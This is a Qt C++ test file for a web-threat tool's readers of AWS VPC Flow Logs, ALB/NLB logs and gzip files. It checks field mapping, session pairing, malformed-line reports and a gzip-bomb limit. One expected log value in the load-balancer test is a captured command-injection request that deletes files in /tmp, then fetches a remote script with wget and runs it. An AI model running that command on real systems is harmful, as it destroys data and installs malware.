// The input formats besides the traffic CSV: AWS VPC Flow Logs, ALB/NLB access logs and ALB
// connection logs, gzip-compressed files of any format, and the detection that picks the reader.
// Fixtures are in tests/data/formats (AWS's documentation samples with deliberate edge cases, and
// gzip files written by make_formats.py there).
#include "core/io/decompress.h"
#include "core/pipeline.h"
#include "core/io/trafficfile.h"
#include "core/io/vpcflowreader.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <set>

#include <zlib.h>

using namespace webthreat;

namespace {

const QString kFormats = QStringLiteral(WEBTHREAT_TEST_DATA_DIR "/formats/");

std::string fixture(const char* name)
{
    return (kFormats + QLatin1String(name)).toStdString();
}

ReadResult readText(const std::string& text, InputFormat format = InputFormat::Auto, std::size_t blockBytes = 16u << 20)
{
    ReadOptions options;
    options.format = format;
    options.blockBytes = blockBytes;
    return readTrafficBytes(text, "test.log", options);
}

QString errorOf(const std::function<void()>& action)
{
    try {
        action();
    } catch (const InputError& error) {
        return QString::fromStdString(error.what());
    }
    return {};
}

// A cell as the Data tab and the scored CSV show it.
QString cell(const ReadResult& read, std::string_view column, std::size_t row)
{
    const auto index = read.table.findColumn(column);
    if (!index)
        return QStringLiteral("<no column %1>").arg(QString::fromUtf8(column.data(), static_cast<int>(column.size())));
    return QString::fromStdString(read.table.cellText(*index, row));
}

bool anyWarningContains(const ReadReport& report, const QString& fragment)
{
    for (const auto& warning : report.warnings) {
        if (QString::fromStdString(warning).contains(fragment))
            return true;
    }
    return false;
}

} // namespace

class TestInputFormat : public QObject {
    Q_OBJECT

private Q_SLOTS:
    // Each sample opens as its format with the expected rows, skipped lines and bad cells.
    void samples_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("format");
        QTest::addColumn<int>("rows");
        QTest::addColumn<int>("lines");
        QTest::addColumn<int>("malformed");
        QTest::addColumn<int>("invalidCells");
        QTest::addColumn<int>("withoutTraffic");
        QTest::newRow("vpc v2 with header") << "vpcflow_v2_accept_reject_with_header.log"
                                            << "AWS VPC Flow Logs (custom field order from the header on line 1, 14 fields)"
                                            << 3 << 5 << 0 << 0 << 0;
        QTest::newRow("vpc v2 no header, IPv6, NODATA, SKIPDATA")
            << "vpcflow_v2_extra_samples_noheader.log" << "AWS VPC Flow Logs (default format, version 2, no header)" << 4
            << 7 << 0 << 0 << 2;
        QTest::newRow("vpc v3 custom order") << "vpcflow_v3_custom_tcpflags_with_header.log"
                                             << "AWS VPC Flow Logs (custom field order from the header on line 1, 21 fields)"
                                             << 1 << 2 << 0 << 0 << 0;
        QTest::newRow("vpc v5 all fields") << "vpcflow_v5_all_fields_noheader.log"
                                           << "AWS VPC Flow Logs (all fields of version 5, no header)" << 1 << 1 << 0
                                           << 1 << 0;
        QTest::newRow("alb, nlb, connection log")
            << "alb_nlb_elb_mixed_test.log" << "AWS load balancer logs (3 ALB access, 4 NLB access, 3 ALB connection entries)"
            << 10 << 10 << 0 << 0 << 0;
        QTest::newRow("gzip, two members")
            << "vpcflow_v2_two_members.log.gz"
            << "AWS VPC Flow Logs (custom field order from the header on line 1, 14 fields), gzip-compressed (514 bytes, 2 members)"
            << 6 << 10 << 0 << 0 << 0;
        QTest::newRow("gzip vpc") << "vpcflow_v2_noheader.gz"
                                  << "AWS VPC Flow Logs (default format, version 2, no header), gzip-compressed (276 bytes, 1 member)"
                                  << 4 << 7 << 0 << 0 << 2;
        QTest::newRow("gzip elb") << "alb_nlb_elb_mixed.log.gz"
                                  << "AWS load balancer logs (3 ALB access, 4 NLB access, 3 ALB connection entries), "
                                     "gzip-compressed (1233 bytes, 1 member)"
                                  << 10 << 10 << 0 << 0 << 0;
        QTest::newRow("gzip csv") << "traffic_csv.gz" << "traffic CSV, gzip-compressed (318 bytes, 1 member)" << 5 << 7
                                  << 1 << 0 << 0;
    }

    void samples()
    {
        QFETCH(QString, file);
        QFETCH(QString, format);
        QFETCH(int, rows);
        QFETCH(int, lines);
        QFETCH(int, malformed);
        QFETCH(int, invalidCells);
        QFETCH(int, withoutTraffic);
        const ReadResult read = readTrafficFile((kFormats + file).toStdString());
        QCOMPARE(QString::fromStdString(read.report.format), format);
        QCOMPARE(read.table.rowCount(), std::size_t(rows));
        QCOMPARE(read.report.rows, std::size_t(rows));
        QCOMPARE(read.report.lines, std::int64_t(lines));
        QCOMPARE(read.report.malformed.count, std::size_t(malformed));
        QCOMPARE(read.report.invalidCellCount(), std::size_t(invalidCells));
        QCOMPARE(read.report.recordsWithoutTraffic, std::size_t(withoutTraffic));
        for (const Column& column : read.table.columns)
            QCOMPARE(column.size(), read.table.rowCount());

        // The same bytes from memory, and cut into the smallest blocks, read the same.
        QFile in(kFormats + file);
        QVERIFY(in.open(QIODevice::ReadOnly));
        const QByteArray bytes = in.readAll();
        ReadOptions small;
        small.blockBytes = 64;
        const ReadResult again = readTrafficBytes(std::string_view(bytes.constData(), std::size_t(bytes.size())),
                                                  "memory", small);
        QCOMPARE(again.table.rowCount(), read.table.rowCount());
        QCOMPARE(again.table.columnCount(), read.table.columnCount());
        for (std::size_t c = 0; c < read.table.columnCount(); ++c) {
            for (std::size_t row = 0; row < read.table.rowCount(); ++row)
                QCOMPARE(again.table.cellText(c, row), read.table.cellText(c, row));
        }
    }

    void vpcDefaultFormatMapping()
    {
        const ReadResult read = readTrafficFile(fixture("vpcflow_v2_accept_reject_with_header.log"));
        // SSH to the server on port 22: one direction only, so nothing came back in the interval.
        QCOMPARE(cell(read, "src_ip", 0), "78.24.182.42");
        QCOMPARE(cell(read, "dst_ip", 0), "158.109.0.1");
        QCOMPARE(cell(read, "dst_port", 0), "22");
        QCOMPARE(cell(read, "src_port", 0), "20641");
        QCOMPARE(cell(read, "protocol", 0), "TCP");
        QCOMPARE(cell(read, "bytes_in", 0), "4249");
        QCOMPARE(cell(read, "bytes_out", 0), "0");
        QCOMPARE(cell(read, "packets_in", 0), "20");
        QCOMPARE(cell(read, "creation_time", 0), "2014-12-14T04:06:50Z"); // 1418530010
        QCOMPARE(cell(read, "end_time", 0), "2014-12-14T04:07:50Z");      // 1418530070
        QCOMPARE(cell(read, "time", 0), "2014-12-14T04:06:50Z");
        QCOMPARE(cell(read, "action", 0), "ACCEPT");
        QCOMPARE(cell(read, "log-status", 0), "OK");
        QCOMPARE(cell(read, "direction", 0), "client to server");
        QCOMPARE(cell(read, "source.meta", 0), "AWS_VPC_Flow");
        QCOMPARE(cell(read, "source.name", 0), "eni-1235b8ca123456789");
        QCOMPARE(cell(read, "response.code", 0), "");
        QCOMPARE(cell(read, "src_ip_country_code", 0), "");
        QCOMPARE(cell(read, "account-id", 0), "123456789010");
        QCOMPARE(read.table.sourceLines[0], 2);
        QCOMPARE(cell(read, "dst_port", 1), "3389");
        QCOMPARE(cell(read, "action", 1), "REJECT");
        // The ping and its rejected reply (lines 4 and 5) are one session: the side that started
        // first is the client, each direction's bytes on its own side, both actions kept.
        QCOMPARE(read.table.sourceLines[2], 4);
        QCOMPARE(cell(read, "src_ip", 2), "203.0.113.12");
        QCOMPARE(cell(read, "dst_ip", 2), "172.31.16.139");
        QCOMPARE(cell(read, "protocol", 2), "ICMP");
        QCOMPARE(cell(read, "bytes_in", 2), "336");
        QCOMPARE(cell(read, "bytes_out", 2), "336");
        QCOMPARE(cell(read, "creation_time", 2), "2015-05-29T16:30:27Z"); // 1432917027
        QCOMPARE(cell(read, "end_time", 2), "2015-05-29T16:32:22Z");      // 1432917142
        QCOMPARE(cell(read, "direction", 2), "both");
        QCOMPARE(cell(read, "action", 2), "ACCEPT/REJECT");
        QVERIFY(anyWarningContains(read.report, "4 flow record(s) became 3 session row(s): 1 pair(s)"));
    }

    void vpcWithoutHeaderIpv6AndNoData()
    {
        const ReadResult read = readTrafficFile(fixture("vpcflow_v2_extra_samples_noheader.log"));
        QCOMPARE(cell(read, "src_ip", 0), "2001:db8:1234:a100:8d6e:3477:df66:f105");
        QCOMPARE(cell(read, "dst_ip", 0), "2001:db8:1234:a102:3304:8879:34cf:4071");
        QCOMPARE(cell(read, "dst_port", 0), "22");
        QCOMPARE(cell(read, "bytes_in", 0), "8855");
        QCOMPARE(read.report.invalidAddresses, std::size_t(0));
        // NODATA and SKIPDATA lines are not rows; the rows keep their own line numbers.
        QCOMPARE(read.table.sourceLines, (std::vector<std::uint32_t>{1, 4, 5, 6}));
        QVERIFY(anyWarningContains(read.report, "1 NODATA record(s)"));
        QVERIFY(anyWarningContains(read.report, "are not rows: line(s) 2"));
        QVERIFY(anyWarningContains(read.report, "1 SKIPDATA record(s): AWS skipped flow records"));
        QVERIFY(anyWarningContains(read.report, "line(s) 3"));
    }

    void vpcCustomOrderFromHeader()
    {
        // packets and bytes are swapped against the default order: the header decides.
        const ReadResult read = readTrafficFile(fixture("vpcflow_v3_custom_tcpflags_with_header.log"));
        QCOMPARE(cell(read, "bytes_in", 0), "568");
        QCOMPARE(cell(read, "packets_in", 0), "8");
        QCOMPARE(cell(read, "dst_port", 0), "5001");
        QCOMPARE(cell(read, "src_port", 0), "43416");
        QCOMPARE(cell(read, "tcp-flags", 0), "2");
        QCOMPARE(cell(read, "vpc-id", 0), "vpc-abcdefab012345678");
        QCOMPARE(cell(read, "pkt-dstaddr", 0), "10.0.0.62");
        QCOMPARE(cell(read, "creation_time", 0), "2019-08-26T19:47:55Z"); // 1566848875
    }

    void vpcAllFieldsVersion5()
    {
        const ReadResult read = readTrafficFile(fixture("vpcflow_v5_all_fields_noheader.log"));
        QCOMPARE(cell(read, "src_ip", 0), "89.160.20.156");
        QCOMPARE(cell(read, "dst_ip", 0), "10.200.0.0");
        QCOMPARE(cell(read, "dst_port", 0), "33004");
        QCOMPARE(cell(read, "protocol", 0), "UDP");
        QCOMPARE(cell(read, "bytes_in", 0), "1");
        QCOMPARE(cell(read, "packets_in", 0), "52");
        QCOMPARE(cell(read, "action", 0), "REJECT");
        QCOMPARE(cell(read, "flow-direction", 0), "ingress");
        QCOMPARE(cell(read, "pkt-src-aws-service", 0), "AMAZON");
        QCOMPARE(cell(read, "sublocation-type", 0), "");
        // The start lost a digit (164000066, 1975): read as missing rather than a 46-year session.
        QCOMPARE(cell(read, "creation_time", 0), "");
        QCOMPARE(cell(read, "end_time", 0), "2021-12-20T11:38:17Z"); // 1640000297
        QCOMPARE(read.report.invalidCells.size(), std::size_t(1));
        QCOMPARE(QString::fromStdString(read.report.invalidCells[0].column), "start");
        QCOMPARE(read.report.invalidCells[0].firstLines, std::vector<std::int64_t>{1});
        QCOMPARE(QString::fromStdString(read.report.invalidCells[0].firstValue), "164000066");
    }

    void vpcPairing()
    {
        // Reply first in the file; a same-direction repeat; a later reply whose interval does not
        // overlap; the same reply on another interface; a UDP flow between two high ports.
        const std::string text =
            "2 1 eni-a 10.0.0.5 198.51.100.7 443 50000 6 3 900 1000 1060 ACCEPT OK\n"   // 1: reply
            "2 1 eni-a 198.51.100.7 10.0.0.5 50000 443 6 4 300 1000 1060 ACCEPT OK\n"   // 2: request
            "2 1 eni-a 10.0.0.5 198.51.100.7 443 50000 6 1 40 5000 5060 ACCEPT OK\n"    // 3: late reply
            "2 1 eni-b 198.51.100.7 10.0.0.5 50000 443 6 2 80 1000 1060 ACCEPT OK\n"    // 4: other interface
            "2 1 eni-a 192.0.2.1 10.0.0.5 40000 33333 17 1 60 1000 1010 ACCEPT OK\n";   // 5: udp
        const ReadResult read = readText(text);
        QCOMPARE(read.table.rowCount(), std::size_t(4));
        QCOMPARE(read.table.sourceLines, (std::vector<std::uint32_t>{1, 3, 4, 5}));
        QCOMPARE(cell(read, "src_ip", 0), "198.51.100.7");
        QCOMPARE(cell(read, "dst_ip", 0), "10.0.0.5");
        QCOMPARE(cell(read, "dst_port", 0), "443");
        QCOMPARE(cell(read, "src_port", 0), "50000");
        QCOMPARE(cell(read, "bytes_in", 0), "300");
        QCOMPARE(cell(read, "bytes_out", 0), "900");
        QCOMPARE(cell(read, "packets_in", 0), "4");
        QCOMPARE(cell(read, "packets_out", 0), "3");
        QCOMPARE(cell(read, "direction", 0), "both");
        // The late reply alone: the server side is still the port-443 side.
        QCOMPARE(cell(read, "src_ip", 1), "198.51.100.7");
        QCOMPARE(cell(read, "dst_ip", 1), "10.0.0.5");
        QCOMPARE(cell(read, "bytes_in", 1), "0");
        QCOMPARE(cell(read, "bytes_out", 1), "40");
        QCOMPARE(cell(read, "direction", 1), "server to client");
        QCOMPARE(cell(read, "source.name", 2), "eni-b");
        QCOMPARE(cell(read, "direction", 2), "client to server");
        QCOMPARE(cell(read, "dst_port", 3), "33333");
        QCOMPARE(cell(read, "src_ip", 3), "192.0.2.1");
        QCOMPARE(cell(read, "protocol", 3), "UDP");
    }

    // One 5-tuple with 300 records waiting for replies: only the newest wait (at 256 the oldest
    // half gives up), and replies taken from the middle and the end of the waiting line leave it
    // intact for the next.
    void vpcPairingWaitingLine()
    {
        std::string text;
        const auto record = [&](bool request, int bytes, long start) {
            text += request ? "2 1 eni-a 10.0.0.9 198.51.100.7 40000 443 6 1 " : "2 1 eni-a 198.51.100.7 10.0.0.9 443 40000 6 1 ";
            text += std::to_string(bytes) + " " + std::to_string(start) + " " + std::to_string(start + 50) + " ACCEPT OK\n";
        };
        for (int i = 0; i < 300; ++i)
            record(true, i, 100000 + 100L * i);          // request i: [100000 + 100 i, +50]
        record(false, 7005, 100000 + 100L * 5);          // request 5 gave up waiting: alone
        record(false, 7200, 100000 + 100L * 200);        // from the middle
        record(false, 7199, 100000 + 100L * 199);        // its neighbour, after the unlinking
        record(false, 7299, 100000 + 100L * 299);        // the newest (the tail)
        record(true, 300, 200000);                       // waits behind the new tail
        record(false, 7300, 200000);
        const ReadResult read = readText(text);
        QCOMPARE(read.table.rowCount(), std::size_t(306 - 4));
        QVERIFY(anyWarningContains(read.report, "306 flow record(s) became 302 session row(s): 4 pair(s)"));
        std::set<std::pair<QString, QString>> rows; // (bytes_in, bytes_out)
        for (std::size_t row = 0; row < read.table.rowCount(); ++row)
            rows.emplace(cell(read, "bytes_in", row), cell(read, "bytes_out", row));
        for (const auto& [request, reply] : {std::pair{"200", "7200"}, {"199", "7199"}, {"299", "7299"}, {"300", "7300"},
                                             {"5", "0"}, {"0", "7005"}})
            QVERIFY2(rows.count({QString::fromLatin1(request), QString::fromLatin1(reply)}) == 1, request);
    }

    void vpcBadLinesAndCells()
    {
        const std::string text =
            "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\r\n"
            "2 1 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000 1060 ACCEPT OK\r\n"
            "2 1 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000\r\n"                  // 3: cut short
            "\r\n"
            "2 1 eni-a 10.0.0.6 198.51.100.7 70000 443 250 3 -12 1000 1060 ACCEPT OK\r\n"  // 5: bad port, bytes
            "2 1 eni-a 10.0.0.7 not-an-address 50001 443 6 3 900 1000 1060 ACCEPT OK\r\n"; // 6
        const ReadResult read = readText(text);
        QCOMPARE(read.table.rowCount(), std::size_t(3));
        QCOMPARE(read.report.blankLines, std::size_t(1));
        QCOMPARE(read.report.malformed.count, std::size_t(1));
        QCOMPARE(read.report.malformed.firstLines, std::vector<std::int64_t>{3});
        QCOMPARE(read.report.malformed.firstFieldCounts, std::vector<std::size_t>{11});
        QVERIFY(anyWarningContains(read.report, "1 line(s) skipped for not being VPC Flow Log records of the format "
                                                "(first: line 3 has 11 fields where the format has 14): line(s) 3 (11 fields)"));
        QCOMPARE(read.report.invalidCellCount(), std::size_t(2));
        QVERIFY(anyWarningContains(read.report, "1 cell(s) in column 'srcport' could not be read and are treated as missing "
                                                "(first: '70000', number out of range; line(s) 5)"));
        QVERIFY(anyWarningContains(read.report, "column 'bytes' could not be read"));
        QCOMPARE(cell(read, "protocol", 1), "250"); // no common name: the number
        QCOMPARE(cell(read, "bytes_in", 1), "");
        QCOMPARE(read.report.invalidAddresses, std::size_t(1));
        QVERIFY(anyWarningContains(read.report, "'not-an-address' on line 6"));
    }

    void vpcWithoutHeaderNeedsKnownLayout()
    {
        const QString message = errorOf([] { readText("3 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000 1060\n",
                                                      InputFormat::VpcFlowLog); });
        QVERIFY2(message.startsWith("test.log:1: this VPC Flow Log record has 11 fields and no header line names them"),
                 qPrintable(message));
        const QString header = errorOf([] { readText("version srcport dstport bytes\n2 1 2 3\n", InputFormat::VpcFlowLog); });
        QVERIFY2(header.contains("test.log:1, column 'srcaddr': the VPC Flow Log header has no field 'srcaddr'"),
                 qPrintable(header));
    }

    void elbMapping()
    {
        const ReadResult read = readTrafficFile(fixture("alb_nlb_elb_mixed_test.log"));
        // ALB access log.
        QCOMPARE(cell(read, "source.meta", 0), "AWS_ALB");
        QCOMPARE(cell(read, "protocol", 0), "HTTP");
        QCOMPARE(cell(read, "src_ip", 0), "192.168.131.39");
        QCOMPARE(cell(read, "src_port", 0), "2817");
        QCOMPARE(cell(read, "dst_ip", 0), "10.0.0.1");
        QCOMPARE(cell(read, "dst_port", 0), "80");
        QCOMPARE(cell(read, "bytes_in", 0), "34");
        QCOMPARE(cell(read, "bytes_out", 0), "366");
        QCOMPARE(cell(read, "response.code", 0), "200");
        QCOMPARE(cell(read, "creation_time", 0), "2018-07-02T22:22:48.364Z");
        QCOMPARE(cell(read, "end_time", 0), "2018-07-02T22:23:00.186641Z");
        QCOMPARE(cell(read, "source.name", 0), "app/my-loadbalancer/50dc6c495c0c9188");
        QCOMPARE(cell(read, "request", 0), "GET http://www.example.com:80/ HTTP/1.1");
        QCOMPARE(cell(read, "user_agent", 0), "curl/7.46.0");
        QCOMPARE(cell(read, "actions_executed", 0), "forward,redirect");
        QCOMPARE(cell(read, "target:port_list", 0), "10.0.0.1:80");
        // Answered by the load balancer itself: no target, -1 timings kept as written.
        QCOMPARE(cell(read, "dst_ip", 1), "");
        QCOMPARE(cell(read, "dst_port", 1), "");
        QCOMPARE(cell(read, "response.code", 1), "301");
        QCOMPARE(cell(read, "target_status_code", 1), "");
        QCOMPARE(cell(read, "request_processing_time", 1), "-1");
        QCOMPARE(cell(read, "user_agent", 1), "Hello, world");
        QCOMPARE(cell(read, "request", 1),
                 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1");
        QCOMPARE(cell(read, "classification_reason", 1), "SpaceInUri");
        QVERIFY(anyWarningContains(read.report, "5 entries name no destination address (first on line 2)"));
        // NLB TLS entries: destination is the listener, creation from tls_connection_creation_time.
        QCOMPARE(cell(read, "source.meta", 2), "AWS_NLB");
        QCOMPARE(cell(read, "protocol", 2), "TLS");
        QCOMPARE(cell(read, "dst_ip", 2), "10.0.0.1");
        QCOMPARE(cell(read, "bytes_in", 2), "98");
        QCOMPARE(cell(read, "bytes_out", 2), "246");
        QCOMPARE(cell(read, "creation_time", 2), "2018-12-20T02:59:30Z");
        QCOMPARE(cell(read, "end_time", 2), "2018-12-20T02:59:40Z");
        QCOMPARE(cell(read, "tls_protocol_version", 2), "tlsv12");
        QCOMPARE(cell(read, "alpn_client_preference_list", 3), "\"h2\",\"http/1.1\"");
        QCOMPARE(cell(read, "domain_name", 4),
                 "[oauthce.eu-central-1.XXXX.c1.XXXXX.com](https://oauthce.eu-central-1.xxxx.c1.xxxxx.com/)");
        QCOMPARE(cell(read, "alpn_client_preference_list", 4), "\\\"http/1.1\\\"");
        QCOMPARE(cell(read, "tls_handshake_time", 5), "");
        QCOMPARE(cell(read, "bytes_in", 5), "0");
        // ALB connection log: no destination address, the listener port as dst_port.
        QCOMPARE(cell(read, "source.meta", 6), "AWS_ALB");
        QCOMPARE(cell(read, "src_ip", 6), "192.168.131.39");
        QCOMPARE(cell(read, "src_port", 6), "36280");
        QCOMPARE(cell(read, "dst_port", 6), "443");
        QCOMPARE(cell(read, "dst_ip", 6), "");
        QCOMPARE(cell(read, "bytes_in", 6), "");
        QCOMPARE(cell(read, "creation_time", 6), "2024-10-04T17:05:15.514108Z");
        QCOMPARE(cell(read, "tls_verify_status", 6), "Success");
        QCOMPARE(cell(read, "leaf_client_cert_subject", 6), "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US");
        QCOMPARE(cell(read, "tls_verify_status", 7), "Failed:ClientCertUntrusted");
        QCOMPARE(cell(read, "conn_trace_id", 8), "TID_16132ed0b4112148");
        QCOMPARE(cell(read, "protocol", 8), "");
        // The last line has no line end and a request line that is not one.
        QCOMPARE(cell(read, "request", 9), "- http://internal-service-alb.example.com:80-/ ");
        QCOMPARE(cell(read, "conn_trace_id", 9), "TID_00000000000000000000000000000000");
        QCOMPARE(cell(read, "response.code", 9), "200");
    }

    void elbBadLines()
    {
        const std::string text =
            "https 2024-01-01T00:00:00.000000Z app/lb/1 203.0.113.9:1000 10.0.0.1:443 0.1 0.2 0.3 404 404 12 34 "
            "\"GET https://x:443/a HTTP/2.0\" \"Mozilla \\\"quoted\\\" agent\" - -\n"                         // 1
            "https 2024-01-01T00:00:01Z app/lb/1 203.0.113.9:1001 10.0.0.1:443 0.1 0.2 0.3 200 200 12 34 \"GET /\n" // 2
            "h2 2024-01-01T00:00:02Z app/lb/1 203.0.113.9:1002\n"                                             // 3
            "GET / HTTP/1.1\n"                                                                                 // 4
            "wss 2024-01-01T00:00:03Z app/lb/1 nonsense 10.0.0.1:443 0.1 0.2 0.3 abc 200 x 34 \"GET / HTTP/1.1\"\n"; // 5
        const ReadResult read = readText(text);
        QCOMPARE(read.table.rowCount(), std::size_t(2));
        QCOMPARE(cell(read, "user_agent", 0), "Mozilla \"quoted\" agent");
        QCOMPARE(cell(read, "protocol", 0), "HTTPS");
        QCOMPARE(cell(read, "response.code", 0), "404");
        QCOMPARE(read.report.malformed.count, std::size_t(3));
        QCOMPARE(read.report.malformed.firstLines, (std::vector<std::int64_t>{2, 3, 4}));
        QVERIFY(anyWarningContains(read.report, "3 line(s) skipped for not being load-balancer log entries (first: line 2 "
                                                "has a quoted field that is never closed): line(s) 2"));
        QCOMPARE(cell(read, "protocol", 1), "WSS");
        QCOMPARE(cell(read, "src_ip", 1), "");
        QCOMPARE(read.report.invalidCellCount(), std::size_t(3));
        QVERIFY(anyWarningContains(read.report, "column 'client:port' could not be read and are treated as missing "
                                                "(first: 'nonsense', not address:port; line(s) 5)"));
        QVERIFY(anyWarningContains(read.report, "column 'elb_status_code'"));
        QVERIFY(anyWarningContains(read.report, "column 'received_bytes'"));

        const QString none = errorOf([] { readText("GET / HTTP/1.1\nHost: x\n", InputFormat::ElbAccessLog); });
        QVERIFY2(none.startsWith("test.log:1: no line of the file is an ALB or NLB access-log or ALB connection-log entry"),
                 qPrintable(none));
    }

    void longLinesAndLineEnds()
    {
        // A user agent far longer than a block, and CR-only line ends.
        const std::string agent(20000, 'a');
        const std::string alb = "http 2024-01-01T00:00:00Z app/lb/1 203.0.113.9:1000 10.0.0.1:80 0.1 0.2 0.3 200 200 1 2 "
                                "\"GET / HTTP/1.1\" \"" + agent + "\"\r";
        const ReadResult read = readText(alb + alb + alb, InputFormat::Auto, 64);
        QCOMPARE(read.table.rowCount(), std::size_t(3));
        QCOMPARE(read.table.sourceLines, (std::vector<std::uint32_t>{1, 2, 3}));
        QCOMPARE(cell(read, "user_agent", 2).size(), 20000);
        const ReadResult vpc = readText("2 1 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000 1060 ACCEPT OK\r\r"
                                        "2 1 eni-a 10.0.0.6 198.51.100.7 50000 443 6 3 900 1000 1060 ACCEPT OK");
        QCOMPARE(vpc.table.sourceLines, (std::vector<std::uint32_t>{1, 3}));
        QCOMPARE(vpc.report.blankLines, std::size_t(1));
        QCOMPARE(vpc.report.lines, std::int64_t(3));
    }

    void detection_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<int>("format");
        QTest::addColumn<int>("line");
        QTest::newRow("csv header") << "bytes_in,bytes_out,src_ip\n1,2,3\n" << int(InputFormat::TrafficCsv) << 1;
        QTest::newRow("csv after a title") << "My export\nbytes_in,bytes_out\n" << int(InputFormat::TrafficCsv) << 2;
        QTest::newRow("vpc header") << "version srcaddr dstaddr bytes\n" << int(InputFormat::VpcFlowLog) << 1;
        QTest::newRow("vpc record") << "2 1 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000 1060 ACCEPT OK\n"
                                    << int(InputFormat::VpcFlowLog) << 1;
        QTest::newRow("vpc nodata first") << "\n2 1 eni-a - - - - - - - 1000 1060 - NODATA\n"
                                          << int(InputFormat::VpcFlowLog) << 2;
        QTest::newRow("alb") << "h2 2024-01-01T00:00:00Z app/lb/1 1.2.3.4:5 - -1 -1 -1 200 - 0 0 \"-\"\n"
                             << int(InputFormat::ElbAccessLog) << 1;
        QTest::newRow("nlb") << "tls 2.0 2024-01-01T00:00:00 net/lb/1 l 1.2.3.4:5 6.7.8.9:443 1 2 3 4\n"
                             << int(InputFormat::ElbAccessLog) << 1;
        QTest::newRow("connection log") << "2024-01-01T00:00:00.000Z 1.2.3.4 5000 443 - - - \"-\" - - -\n"
                                        << int(InputFormat::ElbAccessLog) << 1;
        QTest::newRow("empty: the csv reader explains") << "" << int(InputFormat::TrafficCsv) << 0;
        QTest::newRow("binary: the csv reader explains") << "\x01\x02\x03" << int(InputFormat::TrafficCsv) << 1;
        QTest::newRow("prose") << "Hello, world\nhow are you\n" << int(InputFormat::Auto) << 1;
    }

    void detection()
    {
        QFETCH(QString, text);
        QFETCH(int, format);
        QFETCH(int, line);
        const FormatDetection detected = detectFormat(text.toStdString());
        QCOMPARE(int(detected.format), format);
        QCOMPARE(detected.line, std::int64_t(line));
    }

    void unknownFormatIsRefusedWithAReason()
    {
        const std::string path = fixture("not_a_traffic_file.txt");
        const QString message = errorOf([&] { readTrafficFile(path); });
        QVERIFY2(message.startsWith(QString::fromStdString(path)
                                    + ":1: the file's format is not recognised: line 1 ('Dear analyst,') is not a "
                                      "traffic CSV header"),
                 qPrintable(message));
        QVERIFY(message.contains("AWS VPC Flow Log header or record"));
        QVERIFY(message.contains("ALB/NLB access-log"));
        // A forced format gets that reader's own message.
        const QString asCsv = errorOf([&] {
            ReadOptions options;
            options.format = InputFormat::TrafficCsv;
            readTrafficFile(path, options);
        });
        QVERIFY2(asCsv.endsWith(":1: column 2 of the header has no name"), qPrintable(asCsv));
        QCOMPARE(inputFormatByName("vpc-flow"), InputFormat::VpcFlowLog);
        QVERIFY_THROWS_EXCEPTION(ParameterError, inputFormatByName("parquet"));
    }

    void badGzipIsRefusedNamingTheFile()
    {
        const std::string corrupt = fixture("corrupt.gz");
        const QString message = errorOf([&] { readTrafficFile(corrupt); });
        QVERIFY2(message.startsWith(QString::fromStdString(corrupt) + ": the gzip data is corrupt"), qPrintable(message));
        const std::string truncated = fixture("truncated.gz");
        const QString cut = errorOf([&] { readTrafficFile(truncated); });
        QVERIFY2(cut.startsWith(QString::fromStdString(truncated)
                                + ": the gzip data is truncated: the file ends inside a compressed member"),
                 qPrintable(cut));
        const QString magicOnly = errorOf([] { readText(std::string("\x1f\x8b", 2)); });
        QVERIFY2(magicOnly.startsWith("test.log: the gzip data is truncated"), qPrintable(magicOnly));
    }

    void gzipRoundTripAndTrailingBytes()
    {
        QFile compressed(kFormats + "vpcflow_v2_noheader.gz");
        QVERIFY(compressed.open(QIODevice::ReadOnly));
        const QByteArray bytes = compressed.readAll();
        QFile plain(kFormats + "vpcflow_v2_extra_samples_noheader.log");
        QVERIFY(plain.open(QIODevice::ReadOnly));
        const std::string text = gunzip(std::string_view(bytes.constData(), std::size_t(bytes.size())), "x.gz", 0);
        QCOMPARE(QByteArray::fromStdString(text), plain.readAll());
        // Padding after the data is ignored, as gzip -d does, and reported.
        const std::string padded = bytes.toStdString() + std::string(100, '\0');
        const ReadResult read = readText(padded);
        QCOMPARE(read.table.rowCount(), std::size_t(4));
        QVERIFY(anyWarningContains(read.report, "100 byte(s) after the end of the gzip data"));
    }

    void gzipBombIsStopped()
    {
        // 64 MiB of blank lines compress to about 64 KiB; a 16 MiB budget must stop the reading
        // well before the whole text is held.
        std::string blanks(64u << 20, '\n');
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const std::string path = (dir.path() + "/bomb.log.gz").toStdString();
        // The gzip is written with the reader's own zlib through a temporary helper: the test
        // needs a compressor, and a committed 64 KiB fixture would hide what it contains.
        QVERIFY(writeGzip(path, "2 1 eni-a 10.0.0.5 198.51.100.7 50000 443 6 3 900 1000 1060 ACCEPT OK\n" + blanks));
        ReadOptions options;
        options.memoryBudget = 16u << 20;
        options.blockBytes = 1u << 20;
        const QString message = errorOf([&] { readTrafficFile(path, options); });
        QVERIFY2(message.contains("decompressed, the file is larger than"), qPrintable(message));
        QVERIFY2(message.contains("of memory available"), qPrintable(message));
    }

    void pipelineOpensLogs()
    {
        const auto data = prepareData(fixture("vpcflow_v2_noheader.gz"));
        QCOMPARE(data->readReport.rows, std::size_t(4));
        QCOMPARE(data->table.rowCount(), std::size_t(4));
        QCOMPARE(data->features.sessionDuration.size(), std::size_t(4));
        QCOMPARE(data->features.sessionDuration[0], 112.0); // 1477913820 - 1477913708
        const auto elb = prepareData(fixture("alb_nlb_elb_mixed_test.log"));
        QCOMPARE(elb->table.rowCount(), std::size_t(5)); // rows without a destination are dropped
    }

private:
    static bool writeGzip(const std::string& path, const std::string& text);
};

bool TestInputFormat::writeGzip(const std::string& path, const std::string& text)
{
    gzFile file = gzopen(path.c_str(), "wb9");
    if (!file)
        return false;
    const bool written = gzwrite(file, text.data(), static_cast<unsigned>(text.size())) == static_cast<int>(text.size());
    return gzclose(file) == Z_OK && written;
}

QTEST_GUILESS_MAIN(TestInputFormat)
#include "tst_inputformat.moc"
